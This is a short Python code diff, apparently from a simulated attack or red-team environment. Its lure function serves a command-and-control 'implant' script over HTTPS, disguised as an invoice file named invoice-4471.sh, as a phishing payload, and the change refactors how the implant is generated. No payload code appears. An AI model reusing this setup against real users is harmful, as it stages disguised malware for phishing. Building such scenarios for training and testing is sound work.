@@ -143,12 +143,9 @@ def tunnel(agent):
 def lure(agent):
     """Serves the phishing payload over HTTPS: the implant, under an invoice's name."""
     servers.certificate(agent, ["docs-share.example"])
-    code = pathlib.Path("/mnt/code/lib/implant.sh").read_text()
-    for blank, value in cloud.IMPLANT.items():
-        code = code.replace("@%s@" % blank, str(value))
     root = pathlib.Path("/srv/lure")
     root.mkdir()
-    (root / "invoice-4471.sh").write_text(code)
+    (root / "invoice-4471.sh").write_text(c2.implant_code(cloud.IMPLANT))
     shutil.chown(root, servers.WWW_DATA)
     servers.nginx(agent, ["server { listen 443 ssl; root /srv/lure; }"])
 
